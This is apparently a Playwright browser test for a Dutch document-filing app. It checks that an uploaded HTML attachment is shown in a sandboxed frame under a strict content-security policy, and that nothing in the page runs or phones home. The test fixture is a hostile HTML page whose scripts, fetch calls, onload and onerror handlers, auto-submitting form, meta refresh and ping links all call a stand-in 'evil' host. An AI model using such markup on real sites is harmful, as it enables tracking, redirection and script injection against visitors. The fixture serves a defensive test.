import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { aDocument } from "../support/a-document";
import { expect, expectClean, origin, owner, signIn, test } from "../support/browser-test";

const pieter = "pieter@korenaar.example";
const bakery = "bakkerij-de-korenaar";
/** What a page could try, to run something or to tell somebody that it was opened. */
const hostile = (evil: string) => `<!doctype html><html lang="nl"><head><title>Toelichting</title>
<base href="${evil}/"><meta http-equiv="refresh" content="0;url=${evil}/refresh">
<link rel="stylesheet" href="${evil}/style.css"><link rel="prefetch" href="${evil}/prefetch">
<style>@import url("${evil}/import.css"); @font-face { font-family: x; src: url("${evil}/font.woff2") }
  body { background: url("${evil}/background.png"); font-family: x }</style>
<script src="${evil}/script.js"></script><script>fetch("${evil}/fetch"); top.location = "${evil}/top"</script>
</head><body onload="new Image().src='${evil}/onload'">
<h1>Toelichting op uw aangifte</h1>
<img src="${evil}/image.png" srcset="${evil}/image2.png 2x" onerror="location='${evil}/onerror'" alt="">
<svg><image href="${evil}/svg.png"/><script>fetch("${evil}/svg-script")</script></svg>
<iframe src="${evil}/frame"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
<video src="${evil}/video" poster="${evil}/poster" autoplay></video>
<form action="${evil}/form" id="f"><input autofocus onfocus="document.getElementById('f').submit()"></form>
<a href="${evil}/link" ping="${evil}/ping" target="_top" id="a">verder</a></body></html>`;

// The browser says in the console what it did not do.
test.use({ allowed: [/Content.Security|sandboxed|Blocked|Refused|violates/i] });

test("a page of HTML is shown, and nothing in it runs or asks for anything", async ({ page }, info) => {
  const label = `pagina ${info.project.name}`;
  // What is asked is counted where it would arrive: a browser also reports what its policy stopped.
  const asked: string[] = [];
  const listener = createServer((request, response) => {
    asked.push(request.url ?? "");
    response.end();
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  const evil = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  const { id, path } = await aDocument(bakery, { label, html: hostile(evil) });
  await signIn(page, pieter);
  await page.goto(`${origin()}${path}`);
  const preview = page.getByTitle("Voorbeeld van Toelichting.html");
  await expect(preview).toHaveAttribute("sandbox", "");
  await expect(
    preview.contentFrame().getByRole("heading", { name: "Toelichting op uw aangifte" }),
  ).toBeVisible();

  const openings = () =>
    owner(async (sql) => (await sql`select id from filing_openings where filing_id = ${id}`).length);
  // The page shows the whole of it, so it was shown.
  await expect.poll(openings).toBe(1);
  await page.getByRole("link", { name: "Bijlage openen" }).click();
  const frame = page.getByTitle("Bijlage Toelichting.html");
  await expect(frame).toHaveAttribute("sandbox", "");
  await expect(
    frame.contentFrame().getByRole("heading", { name: "Toelichting op uw aangifte" }),
  ).toBeVisible();
  expect(await openings()).toBe(1);
  // Time enough for whatever would have come.
  await page.waitForTimeout(1000);
  listener.close();
  expect(asked).toEqual([]);
  await expect(page).toHaveURL(/\/bijlage$/);

  const headers = await page.evaluate(async (url) => {
    const answer = await fetch(url);
    return Object.fromEntries(answer.headers);
  }, `${path}/pdf?voorbeeld`);
  expect(headers).toMatchObject({
    "content-type": "text/html; charset=utf-8",
    "content-security-policy":
      "sandbox; default-src 'none'; img-src data:; style-src 'unsafe-inline'; font-src data:; form-action 'none'; base-uri 'none'; frame-ancestors 'self'",
    "x-content-type-options": "nosniff",
    "referrer-policy": "no-referrer",
    "cross-origin-resource-policy": "same-origin",
    "cache-control": "private, no-store",
  });
  await page.getByRole("link", { name: "Terug naar het stuk" }).click();
  await expect(page).toHaveURL(`${origin()}${path}`);
  await expectClean(page);
});
